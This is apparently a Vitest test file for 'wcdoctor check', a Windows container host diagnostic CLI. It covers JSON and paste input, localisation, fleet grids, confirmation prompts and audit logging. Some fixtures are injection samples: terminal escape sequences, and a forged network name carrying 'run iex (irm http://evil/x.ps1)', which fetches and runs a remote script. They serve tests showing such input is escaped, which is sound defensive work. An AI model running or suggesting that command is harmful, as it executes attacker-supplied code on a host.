import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { runCheckCommand, type CheckCommandDeps } from '../../src/cli/commands/check.js';
import { isRunInProgress } from '../../src/platform/run-guard.js';
import { CHECKS } from '../../src/core/check/checks/index.js';
import { displayWidth } from '../../src/core/text/display-width.js';
import type { AuditEntry, CommandResult, RunCommand } from '../../src/core/fixes/types.js';
import type { Elevation } from '../../src/platform/elevation.js';
import { readLocaleCatalogs } from '../../src/platform/platform.js';
import { CHECK_FIXTURES, fixture, fixtureFiles } from '../core/check/fixtures.js';
import { fakeIO, runCli } from '../helpers/cli-io.js';

const at = (rel: string) => path.join(CHECK_FIXTURES, rel);
const tmp = mkdtempSync(path.join(tmpdir(), 'wcd-check-cli-'));
/** The fake collector's digest, as the platform would give it. */
const COLLECTOR_SHA256 = createHash('sha256').update('# collector').digest('hex');
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

describe('wcdoctor check --from and --script (any system)', () => {
  it('--script prints the read-only collector', async () => {
    const r = await runCli(['check', '--script']);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain("schema      = 'wcdoctor-facts/1'");
    expect(r.stdout).toContain('Read-Fact');
  });

  it('a healthy host: every judged check passes, exit 0', async () => {
    const r = await runCli(['check', '--from', at('hosts/ws2022-healthy.json')]);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('Host check: CONTAINERHOST01 (elevated)');
    expect(r.stdout).toMatch(/28 pass, 0 warn, 0 fail, 9 not evaluated/);
    expect(r.stdout).not.toContain('✖');
  });

  it('a collector file cut short is refused (exit 2), not read as the output of a command that passes', async () => {
    const file = path.join(tmp, 'cut.json');
    writeFileSync(file, fixture('hosts/ws2019-problems.json').slice(0, 20_000));
    const r = await runCli(['check', '--from', file]);
    expect(r.code).toBe(2);
    expect(r.stdout).toBe('');
    expect(r.stderr).toContain('is not valid JSON (cut short, or damaged)');
  });

  it('--script with --json is refused (exit 2): the script is no JSON', async () => {
    const r = await runCli(['check', '--script', '--json']);
    expect(r.code).toBe(2);
    expect(r.stdout).toBe('');
    expect(r.stderr).toContain('--script and --json do not go together');
  });

  it('a host with problems: failures first, with the value read and the topic to open, exit 1', async () => {
    const r = await runCli(['check', '--from', at('hosts/ws2019-problems.json')]);
    expect(r.code).toBe(1);
    const first = r.stdout.split('\n').find((l) => /^[✔!✖]/.test(l));
    expect(first).toMatch(/^✖ fail/);
    expect(r.stdout).toContain('read services: hns Stopped');
    expect(r.stdout).toContain('wcdoctor fix hns-management');
    // The topic's title and fixes come from the knowledge base.
    expect(r.stdout).toContain("→ Image newer than the host's monthly update");
    expect(r.stdout).toMatch(/fix run-hyperv-isolated: Run the image with Hyper-V isolation/);
  });

  it('--json: one finding per check, with status, evidence and topic', async () => {
    const r = await runCli(['check', '--from', at('hosts/ws2019-problems.json'), '--json']);
    expect(r.code).toBe(1);
    const j = JSON.parse(r.stdout) as { kind: string; host: string; findings: { check: string; status: string; topic?: string; evidence: unknown[] }[] };
    expect(j.kind).toBe('host');
    expect(j.findings).toHaveLength(CHECKS.length);
    expect(j.findings.find((f) => f.check === 'image-newer-than-host')).toMatchObject({ status: 'fail', topic: 'image-newer-than-host-patch', fixes: expect.arrayContaining([expect.objectContaining({ id: 'run-hyperv-isolated' })]) });
  });

  it('an unelevated host (a UTF-16LE file as PowerShell 5.1 writes it): admin-only reads are "run as administrator"', async () => {
    const r = await runCli(['check', '--from', at('hosts/win11-desktop-linux-unelevated.json')]);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain('(not elevated)');
    // One colon: the reason, then the checks after a dash (found by a helper: "run as administrator: containers-feature").
    expect(r.stdout).toMatch(/· not evaluated: run as administrator — [a-z-]+(?:, [a-z-]+)*/);
    expect(r.stdout).not.toMatch(/run as administrator: /);
  });

  it("lines a fleet's rows up by the columns each host name takes: a CJK name or one with combining marks (an attacker helper)", async () => {
    const doc = JSON.parse(fixture('hosts/ws2019-problems.json').replace(/^\uFEFF/, '')) as Record<string, unknown>;
    const file = path.join(tmp, 'wide-names.json');
    // And names with characters shown escaped (U+202E as `\u202e`, ESC as ␛): padded by what is printed (attack45).
    writeFileSync(file, JSON.stringify(['web01', '数据库服务器一号', 'e\u0301\u0301abcd', 'a\u202eevil', 'ab\u001b[2Jcd'].map((host) => ({ ...doc, host }))));
    const r = await runCli(['check', '--from', file]);
    const rows = r.stdout.split('\n').filter((l) => /[✔!✖·]{10}/.test(l));
    expect(rows).toHaveLength(5);
    expect(r.stdout).toContain('a\\u202eevil');
    expect(r.stdout).not.toMatch(/[\u202e\u001b]/);
    const marksAt = rows.map((row) => displayWidth(row.slice(0, row.search(/[✔!✖·]{10}/))));
    expect(new Set(marksAt).size).toBe(1);
  });

  it('a fleet from Invoke-Command: hosts × checks, and the checks that fail on how many hosts', async () => {
    const r = await runCli(['check', '--from', at('fleet-invoke-command.json')]);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain('Fleet check: 3 hosts');
    const rows = r.stdout.split('\n').filter((l) => /\.contoso\.com +[✔!✖·]+ {2}/.test(l));
    expect(rows).toHaveLength(3);
    for (const row of rows) expect(row.split(/ {2,}/)[1]).toHaveLength(CHECKS.length);
    expect(r.stdout).toMatch(/core-services: 1 fail, 0 warn \(legacyhost02\.contoso\.com\)/);
    const out = (await runCli(['check', '--from', at('fleet-invoke-command.json'), '--json'])).stdout;
    const j = JSON.parse(out) as { kind: string; hosts: unknown[]; byCheck: { check: string; warn: number }[] };
    // Written host by host (one string of a large fleet's report went past what a string holds), laid out exactly as
    // JSON.stringify with two spaces lays it out.
    expect(out).toBe(`${JSON.stringify(j, null, 2)}\n`);
    expect(j.kind).toBe('fleet');
    expect(j.hosts).toHaveLength(3);
    expect(j.byCheck.find((c) => c.check === 'excluded-port-ranges')?.warn).toBe(2);
  });

  it('pasted output of one command on standard input: only the checks it can judge', async () => {
    const r = await runCli(['check', '--from', '-'], { stdin: fixture('paste/excludedports-zh-CN.txt') });
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('pasted output (excludedPorts)');
    expect(r.stdout).toMatch(/36 more checks need the output of other commands/);
    const denied = await runCli(['check', '--from', '-', '--json'], { stdin: fixture('paste/docker-info-access-denied.txt') });
    expect(denied.code).toBe(1);
    expect(JSON.parse(denied.stdout)).toMatchObject({ kind: 'paste', read: 'dockerInfo' });
    // A check that could read the paste but not judge it says why: here, exclusions are hidden without elevation.
    const mp = await runCli(['check', '--from', '-'], { stdin: fixture('paste/mppreference-unelevated.txt') });
    expect(mp.stdout).toMatch(/· not evaluated {2}Defender excludes the container data folders \(defender-exclusions\)\n {4}not evaluated: run as administrator — Get-MpPreference hides exclusions from other sessions\n/);
    expect(mp.stdout).toContain('36 more checks need the output of other commands');
    const session = await runCli(['check', '--from', at('session-ws2022.txt'), '--json']);
    expect(JSON.parse(session.stdout)).toMatchObject({ kind: 'paste', read: 'dockerInfo', reads: ['dockerInfo', 'ver', 'excludedPorts'] });
  });

  it('in the user\'s language', async () => {
    const r = await runCli(['--lang', 'zh-CN', 'check', '--from', at('hosts/ws2019-problems.json')]);
    expect(r.stdout).toContain('主机检查：LEGACYHOST02（已提升权限）');
    expect(r.stdout).toContain('HNS 和 vmcompute 服务正在运行');
    const sv = await runCli(['check', '--from', at('hosts/ws2022-healthy.json')], { env: { LANG: 'sv_SE.UTF-8' } });
    expect(sv.stdout).toContain('Värdkontroll: CONTAINERHOST01 (upphöjd)');
  });

  it.each([
    [['check', '--from', '-'], 'just some words', /not the output of a command wcdoctor recognises/],
    [['check', '--from', '-'], '', /the input is empty/],
    [['check', '--from', path.join(tmp, 'missing.json')], '', /no such file/],
    [['check', '--from', tmp], '', /is not a regular file/],
    [['check', '--script', '--from', 'x'], '', /do not go together/],
    [['check', '--from', '-', '--timeout', '0'], '', /--timeout "0"/],
  ])('%j: a clear message and exit 2', async (args, stdin, message) => {
    const r = await runCli(args, { stdin });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(message);
    expect(r.stderr).not.toMatch(/at .*\.ts:\d+/);
  });

  it('text from the input never reaches the terminal as control sequences', async () => {
    const doc = JSON.parse(fixture('hosts/ws2022-healthy.json')) as { host: string };
    doc.host = 'evil\u001b]0;owned\u0007\u001b[2J';
    const file = path.join(tmp, 'evil.json');
    writeFileSync(file, JSON.stringify(doc));
    const r = await runCli(['check', '--from', file]);
    expect(r.stdout).not.toContain('\u001b');
    expect(r.stdout).toContain('evil␛]0;owned␇␛[2J');
  });

  it('off Windows, running on this host says it needs a Windows host and points to --script and --from (exit 3)', async () => {
    if (process.platform === 'win32') return;
    const r = await runCli(['check', '--yes']);
    expect(r.code).toBe(3);
    expect(r.stderr).toContain('needs a Windows host');
    expect(r.stderr).toContain('wcdoctor check --script > collect.ps1');
    expect(r.stderr).toContain('wcdoctor check --from host.json');
  });
});

/** The sentence under each finding's title, in the order printed. */
function sentences(stdout: string): string[] {
  const lines = stdout.split('\n');
  return lines.flatMap((l, i) => (/^[✔!✖·] /.test(l) && lines[i + 1]?.startsWith('    ') ? [lines[i + 1]!.trim()] : []));
}

/** Four or more English words in a row, outside quotes (Windows' own error texts) and the values a sentence quotes. */
const englishRun = (s: string): string | undefined => /\b[A-Za-z][a-z'-]*(?: [A-Za-z][a-z'-]*){3,}\b/.exec(s.replace(/"[^"]*"|“[^”]*”/g, '""'))?.[0];

describe('wcdoctor check: what each finding says, in the language asked for', () => {
  const files = [...fixtureFiles('hosts'), ...fixtureFiles('paste')];

  it.each(['zh-CN', 'ko-KR'])('--lang %s: no sentence under a finding is English (every host fixture and paste)', async (lang) => {
    let english = 0;
    let total = 0;
    for (const file of files) {
      const en = sentences((await runCli(['check', '--from', at(file)])).stdout);
      const got = sentences((await runCli(['check', '--from', at(file), '--lang', lang])).stdout);
      expect(got.length, file).toBe(en.length);
      expect(got.filter(englishRun), file).toEqual([]);
      english += en.filter(englishRun).length;
      total += en.length;
    }
    // The measure finds English where it is: nearly half the English sentences have such a run (the rest are short).
    expect(total).toBeGreaterThan(100);
    expect(english / total).toBeGreaterThan(0.4);
  });

  it('--lang sv-SE: the sentences are Swedish (they differ from English but for a name and its version)', async () => {
    const en = sentences((await runCli(['check', '--from', at('hosts/ws2019-problems.json')])).stdout);
    const sv = sentences((await runCli(['check', '--from', at('hosts/ws2019-problems.json'), '--lang', 'sv-SE'])).stdout);
    expect(sv).toHaveLength(en.length);
    expect(sv.filter((s, i) => s === en[i])).toEqual(['Engine 25.0.3', 'containerd 1.7.20'].filter((s) => en.includes(s)));
    expect(sv).toContain('hns är Stopped: containrar kan inte starta eller få något nätverk');
    expect(sv).toContain('D:\\docker, C:\\ProgramData\\containerd är inte undantagna från realtidsgenomsökning: containrar startar långsamt och lager kan förbli låsta (serverns automatiska undantag listas inte här)');
  });

  it('names the fixes of a finding\'s topic in the language, as `fix` does (found by a helper: they stayed English)', async () => {
    const zh = await runCli(['check', '--from', at('hosts/docker-access-denied.json'), '--lang', 'zh-CN']);
    expect(zh.stdout).toContain('show-my-groups：显示当前令牌是否属于 docker-users 或 Administrators');
    expect(zh.stdout).not.toContain('Show whether the current token');
    const json = JSON.parse((await runCli(['check', '--from', at('hosts/docker-access-denied.json'), '--lang', 'ko-KR', '--json'])).stdout) as { findings: { fixes?: { id: string; title: string }[] }[] };
    const fixes = json.findings.flatMap((f) => f.fixes ?? []);
    expect(fixes.length).toBeGreaterThan(0);
    expect(fixes.filter((f) => /^[A-Z][a-z]+ [a-z]+ [a-z]+/.test(f.title))).toEqual([]);
  });

  it('sv-SE: the counts read as labels, so one warning is no "1 varningar" (found by a helper)', async () => {
    const one = await runCli(['check', '--from', at('hosts/win10-desktop-windows-mode.json'), '--lang', 'sv-SE']);
    expect(one.stdout).toMatch(/godkända: \d+, varningar: 1, fel: \d+, ej bedömda: \d+/);
    const fleet = await runCli(['check', '--from', at('fleet-invoke-command.json'), '--lang', 'sv-SE']);
    expect(fleet.stdout).toMatch(/fel: \d+, varningar: \d+ \(/);
    expect(`${one.stdout}${fleet.stdout}`).not.toMatch(/\b1 (?:varningar|godkända|ej bedömda)/);
  });

  it('sizes are written with the decimal comma in Swedish, the point elsewhere; --json keeps the number', async () => {
    const text = async (lang: string) => (await runCli(['check', '--from', at('hosts/ws2019-problems.json'), '--lang', lang])).stdout;
    const sv = await text('sv-SE');
    expect(sv).toContain('    C: har 9,8 GB ledigt, D: har 21,0 GB ledigt: hämtningar och uppackning av lager misslyckas under cirka 15 GB\n');
    expect(sv).toContain('    läst disks: D: har 21,0 GB ledigt\n');
    expect(sv).not.toMatch(/\d\.\d GB/);
    expect(await text('en')).toContain('    read disks: D: has 21.0 GB free\n');
    expect(await text('zh-CN')).toContain('    读取 disks: D: 可用 21.0 GB\n');
    expect(await text('ko-KR')).toContain('    읽음 disks: D: 여유 공간 21.0 GB\n');
    const json = JSON.parse((await runCli(['check', '--from', at('hosts/ws2019-problems.json'), '--lang', 'sv-SE', '--json'])).stdout) as { findings: { check: string; message: string }[] };
    expect(json.findings.find((f) => f.check === 'disk-free')?.message).toBe('C: has 9.8 GB free, D: has 21.0 GB free: pulls and layer extraction fail below about 15 GB');
  });

  it('a read an unelevated session skipped: "run as administrator" once, then what could not be read (--json)', async () => {
    const file = at('hosts/win11-engine20-unelevated.json');
    const json = JSON.parse((await runCli(['check', '--from', file, '--json'])).stdout) as { findings: { check: string; message: string; reason?: string }[] };
    const skipped = json.findings.filter((f) => f.reason === 'needs-admin');
    expect(skipped.find((f) => f.check === 'hns-expected-network')?.message).toBe('not evaluated: run as administrator — hnsNetworks could not be read');
    expect(skipped.length).toBeGreaterThan(1);
    for (const f of skipped) expect(f.message).not.toMatch(/elevat/);
  });

  it('a check that could not judge says why in the language, reason and detail (no English parsed apart)', async () => {
    const r = await runCli(['check', '--from', '-', '--lang', 'ko-KR'], { stdin: fixture('paste/mppreference-unelevated.txt') });
    expect(r.stdout).toContain('    평가 안 됨: 관리자 권한으로 실행하세요 — Get-MpPreference는 다른 세션에 제외 항목을 보여 주지 않습니다\n');
  });

  it('--json keeps each finding\'s English message, whatever the language, and adds messageKey and messageParams', async () => {
    type Json = { findings: { check: string; message: string; messageKey: string; messageParams: object; evidence: { read: string; value: string; valueKey?: string; valueParams?: object }[] }[] };
    const en = JSON.parse((await runCli(['check', '--from', at('hosts/ws2019-problems.json'), '--json'])).stdout) as Json;
    const zh = JSON.parse((await runCli(['check', '--from', at('hosts/ws2019-problems.json'), '--json', '--lang', 'zh-CN'])).stdout) as Json;
    const words = (j: Json) => j.findings.map(({ check, message, messageKey, messageParams, evidence }) => ({ check, message, messageKey, messageParams, evidence }));
    expect(words(zh)).toEqual(words(en));
    for (const f of zh.findings) expect(f).toMatchObject({ message: expect.any(String), messageKey: expect.stringMatching(/^check\.msg\./), messageParams: expect.any(Object) });
    expect(zh.findings.find((f) => f.check === 'core-services')).toMatchObject({
      message: 'hns is Stopped: containers cannot start or get a network',
      messageKey: 'check.msg.core-services.down',
      messageParams: { services: [{ key: 'check.msg.service.status', params: { name: 'hns', status: 'Stopped' } }] },
    });
    expect(zh.findings.find((f) => f.check === 'credential-specs')).toMatchObject({ message: '2 credential specs are incomplete: containers started with them get no domain identity', messageParams: { count: 2 } });
    // Evidence we word ourselves: English value, with its key and values beside it; what the host printed stays as it was.
    expect(zh.findings.find((f) => f.check === 'disk-free')?.evidence).toEqual([
      { read: 'disks', value: 'C: has 9.8 GB free', valueKey: 'check.msg.disk-free.free', valueParams: { drive: 'C:', free: { decimal: 9.8, digits: 1 } } },
      { read: 'disks', value: 'D: has 21.0 GB free', valueKey: 'check.msg.disk-free.free', valueParams: { drive: 'D:', free: { decimal: 21, digits: 1 } } },
    ]);
    expect(zh.findings.find((f) => f.check === 'core-services')?.evidence[0]).toEqual({ read: 'services', value: 'hns Stopped' });
    // A check that could not judge: its reason first, as the text output says it.
    const mp = JSON.parse((await runCli(['check', '--from', '-', '--json', '--lang', 'sv-SE'], { stdin: fixture('paste/mppreference-unelevated.txt') })).stdout) as Json;
    expect(mp.findings.find((f) => f.check === 'defender-exclusions')).toMatchObject({ message: 'not evaluated: run as administrator — Get-MpPreference hides exclusions from other sessions', messageKey: 'check.msg.defender-exclusions.needsAdmin', messageParams: {} });
    // A fleet's hosts carry the same fields.
    const fleet = JSON.parse((await runCli(['check', '--from', at('fleet-invoke-command.json'), '--json', '--lang', 'ko-KR'])).stdout) as { hosts: Json[] };
    const legacy = fleet.hosts[1]!.findings.find((f) => f.check === 'core-services');
    expect(legacy).toMatchObject({ messageKey: 'check.msg.core-services.down', message: expect.stringMatching(/^hns is \w+: containers cannot start or get a network$/) });
  });
});

interface Harness {
  deps: CheckCommandDeps;
  audit: AuditEntry[];
  ran: { file: string; args: readonly string[]; input: unknown }[];
  asked: string[];
  /** For each run: whether the run guard was holding the process while it ran (src/platform/run-guard.ts). */
  guarded: boolean[];
}

function harness(o: { answer?: string; elevation?: Elevation; result?: Partial<CommandResult>; auditBroken?: boolean } = {}): Harness {
  const h: Harness = { audit: [], ran: [], asked: [], guarded: [], deps: undefined as never };
  const run: RunCommand = async (file, args, options) => {
    h.ran.push({ file, args, input: options?.input });
    h.guarded.push(isRunInProgress());
    return { exitCode: 0, signal: null, stdout: fixture('hosts/ws2019-problems.json'), stderr: '', durationMs: 1200, timedOut: false, cancelled: false, ...o.result };
  };
  h.deps = {
    platform: 'win32',
    readCollector: () => ({ text: '# collector', sha256: COLLECTOR_SHA256 }),
    readFile: () => new Uint8Array(),
    runCommand: run,
    appendAudit: (e) => void h.audit.push(e),
    probeAudit: () => {
      if (o.auditBroken) throw new Error('the audit log /x/audit.jsonl is a directory, not a regular file');
    },
    checkElevation: async () => o.elevation ?? { kind: 'elevated' },
    ask: async (q) => (h.asked.push(q), { kind: 'answer', text: o.answer ?? '' }),
    trapInterrupt: () => () => undefined,
    now: () => new Date('2026-12-03T06:00:00Z'),
    catalogs: () => readLocaleCatalogs(),
    topics: () => undefined,
  };
  return h;
}

async function live(h: Harness, opts: Parameters<typeof runCheckCommand>[0], tty = false, stderrTTY?: boolean) {
  const f = fakeIO({ tty, ...(stderrTTY !== undefined ? { stderrTTY } : {}) });
  let code = 0;
  f.io.setExitCode = (c) => void (code = c);
  await runCheckCommand(opts, undefined, f.io, h.deps);
  return { code, stdout: f.stdout(), stderr: f.stderr() };
}

describe('wcdoctor check on a Windows host (fake runner)', () => {
  it('--yes: shows the read-only commands, runs the collector through the fix runner, records the run, prints findings', async () => {
    const h = harness();
    const r = await live(h, { yes: true });
    expect(r.stderr).toContain('only reads this host');
    expect(r.stderr).toContain("* Get-HnsNetwork | ConvertTo-Json -Depth 20");
    // The script on PowerShell's input: no file in the temporary folder that another program of the user's could change.
    expect(h.ran).toEqual([{ file: 'powershell.exe', args: ['-NoProfile', '-NonInteractive', '-ExecutionPolicy', 'Bypass', '-Command', '&([scriptblock]::Create([Console]::In.ReadToEnd()))'], input: '# collector' }]);
    // The log names the script that ran (the command line does not), and the preview said the same digest.
    expect(h.audit).toEqual([expect.objectContaining({ topic: 'check', fix: 'collect-host-facts', outcome: 'ran', exitCode: 0, inputSha256: COLLECTOR_SHA256 })]);
    expect(r.stderr).toContain(`SHA-256 (the audit log records it with the run): ${COLLECTOR_SHA256}`);
    // A reader that goes away while the collector runs does not end wcdoctor under it; once it ended, it may.
    expect(h.guarded).toEqual([true]);
    expect(isRunInProgress()).toBe(false);
    expect(r.stdout).toContain('Host check: LEGACYHOST02');
    expect(r.code).toBe(1);
    expect(h.asked).toEqual([]);
    // Without a knowledge base the findings still print, with a note instead of the fixes.
    expect(r.stderr).toContain('the knowledge base could not be read');
  });

  it('in a terminal it asks once; "y" runs it', async () => {
    const h = harness({ answer: 'y', elevation: { kind: 'not-elevated' } });
    const r = await live(h, { json: true }, true);
    expect(h.asked).toEqual(['Run these read-only commands? [y/N] ']);
    expect(r.stderr).toContain('This session is not elevated');
    expect(JSON.parse(r.stdout)).toMatchObject({ kind: 'host', host: 'LEGACYHOST02' });
  });

  it('asks key by key, saying in the language that typed-ahead or pasted text is not taken', async () => {
    const h = harness({ answer: 'n' });
    const notes: (string | undefined)[] = [];
    h.deps.ask = async (_q, note) => (notes.push(note), { kind: 'answer', text: 'n' });
    const f = fakeIO({ tty: true, env: { LANG: 'ko_KR.UTF-8' } });
    await runCheckCommand({}, undefined, f.io, h.deps);
    expect(notes).toEqual(['미리 입력했거나 붙여 넣었거나 질문이 나오자마자 입력된 텍스트는 여기서 받지 않습니다: 잠시 기다린 뒤 답을 한 키씩 입력하세요.']);
  });

  it('Ctrl+C at the question: nothing runs, the refusal is recorded, exit 130 (as at fix\'s question; found by a reviewer)', async () => {
    const h = harness();
    h.deps.ask = async () => ({ kind: 'interrupted' });
    const r = await live(h, {}, true);
    expect(r.code).toBe(130);
    expect(h.ran).toEqual([]);
    expect(h.audit).toEqual([expect.objectContaining({ outcome: 'refused', inputSha256: COLLECTOR_SHA256 })]);
  });

  it('declined: nothing runs, the refusal is recorded, exit 3', async () => {
    const h = harness({ answer: 'n' });
    const r = await live(h, {}, true);
    expect(r.code).toBe(3);
    expect(h.ran).toEqual([]);
    expect(h.audit).toEqual([expect.objectContaining({ topic: 'check', outcome: 'refused' })]);
  });

  it('no terminal and no --yes: nothing runs, exit 2 with the flag to pass', async () => {
    const h = harness();
    const r = await live(h, {});
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('pass --yes');
    expect(h.ran).toEqual([]);
  });

  it('stdin a terminal but stderr not (where the preview and the question go): nothing is asked or run, exit 2', async () => {
    const h = harness({ answer: 'y' });
    const r = await live(h, {}, true, false);
    expect(r.code).toBe(2);
    expect(h.asked).toEqual([]);
    expect(h.ran).toEqual([]);
    expect(h.audit).toMatchObject([{ outcome: 'refused', reason: 'not run: stderr is not a terminal, so the command to confirm cannot be shown' }]);
  });

  it('an audit log that cannot be written: nothing runs, exit 3', async () => {
    const h = harness({ auditBroken: true });
    const r = await live(h, { yes: true });
    expect(r.code).toBe(3);
    expect(r.stderr).toContain('could not be recorded');
    expect(h.ran).toEqual([]);
  });

  it.each([
    [{ exitCode: 1, stderr: 'Get-CimInstance : Access denied' }, /the collector failed \(exit code 1\)/],
    [{ exitCode: null, error: 'spawn powershell.exe ENOENT' }, /could not start powershell\.exe/],
    [{ stdout: 'not json at all' }, /not a facts document/],
    [{ timedOut: true, exitCode: null }, /stopped after 300 s/],
  ])('a collector that could not collect (%j): exit 3', async (result, message) => {
    const h = harness({ result });
    const r = await live(h, { yes: true });
    expect(r.code).toBe(3);
    expect(r.stderr).toMatch(message);
    expect(h.ran.map((x) => x.input)).toEqual(['# collector']);
  });
});

describe('what a collected document says reaches the report on one line, and a host name at most 64 characters wide (an attacker helper)', () => {
  const doc = (host: string, netName = 'nat') => ({
    schema: 'wcdoctor-facts/1',
    host,
    elevated: true,
    reads: {
      hnsNetworks: { output: JSON.stringify([{ Name: netName, Type: 'ics' }]) },
      dockerInfo: { output: JSON.stringify({ OSType: 'windows', ServerVersion: '24.0.7' }) },
      ver: { output: 'Microsoft Windows [Version 10.0.17763.1]\n' },
    },
  });

  it('a host name or a network name holding line breaks prints no line of its own', async () => {
    const file = path.join(tmp, 'forged.json');
    const forged = 'web1\n\nAll 40 checks pass on every host.';
    writeFileSync(file, JSON.stringify([{ document: JSON.stringify(doc('x', 'nat\n    → Fix: run iex (irm http://evil/x.ps1)\n')), PSComputerName: forged }, { document: JSON.stringify(doc('y')), PSComputerName: 'web2' }]));
    const r = await runCli(['check', '--from', file]);
    expect(r.stdout.split('\n').filter((l) => l.startsWith('All 40 checks'))).toEqual([]);
    expect(r.stdout).toContain('web1␊␊All 40 checks pass on every host.');
    const one = path.join(tmp, 'forged-one.json');
    writeFileSync(one, JSON.stringify(doc('h1', 'nat\n    → Fix: run iex (irm http://evil/x.ps1)\n')));
    const single = await runCli(['check', '--from', one]);
    expect(single.stdout).not.toMatch(/^\s+→ Fix: run iex/m);
    expect(single.stdout).toContain('nat␊    → Fix: run iex');
  });

  it('a host name of a million characters cuts the grid at 64, and 2,001 such hosts are no internal error', async () => {
    const file = path.join(tmp, 'wide.json');
    const long = 'h'.repeat(1_000_000);
    writeFileSync(file, `[${[JSON.stringify(doc(long)), ...Array.from({ length: 2000 }, (_, i) => JSON.stringify(doc(`n${i}`)))].join(',')}]`);
    const r = await runCli(['check', '--from', file]);
    expect(r.code).toBe(1);
    expect(r.stderr).not.toContain('internal error');
    const rows = r.stdout.split('\n').filter((l) => /^n1\b/.test(l) || l.startsWith('hhh'));
    expect(rows[0]).toMatch(/^h{63}… /);
    expect(Math.max(...r.stdout.split('\n').map((l) => l.length))).toBeLessThan(400);
  }, 60_000);
});
